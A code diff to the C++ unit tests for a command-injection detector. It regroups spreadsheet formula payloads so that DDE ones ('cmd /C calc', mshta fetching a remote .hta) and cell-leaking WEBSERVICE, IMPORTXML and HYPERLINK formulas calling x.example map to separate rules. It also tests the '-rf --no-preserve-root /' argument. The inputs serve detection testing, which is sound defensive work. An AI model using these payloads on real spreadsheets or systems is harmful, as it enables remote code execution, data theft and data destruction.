@@ -994,11 +994,14 @@ TEST(CmdiTest, FindActionsScriptOutputsRedirectionsAndLineContinuations) {
 
 TEST(CmdiTest, SpreadsheetFormulasThatRunOrSendCells) {
   for (const std::string v :
-       {"=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\t=cmd|'/C mshta http://x.example/p.hta'!A0",
-        "=WEBSERVICE(\"http://x.example/?\"&A1&A2)",
+       {"=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\t=cmd|'/C mshta http://x.example/p.hta'!A0"}) {
+    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "cmdi.dde_formula") << v;
+  }
+  for (const std::string v :
+       {"=WEBSERVICE(\"http://x.example/?\"&A1&A2)",
         "=IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")",
         "=HYPERLINK(\"http://x.example/?leak=\"&A2&B2,\"Click for details\")"}) {
-    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "cmdi.dde_formula") << v;
+    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "cmdi.formula_injection") << v;
   }
   EXPECT_EQ(testing::RuleOf(CmdiDetector(), "-rf --no-preserve-root /"),
             "cmdi.argument_injection");
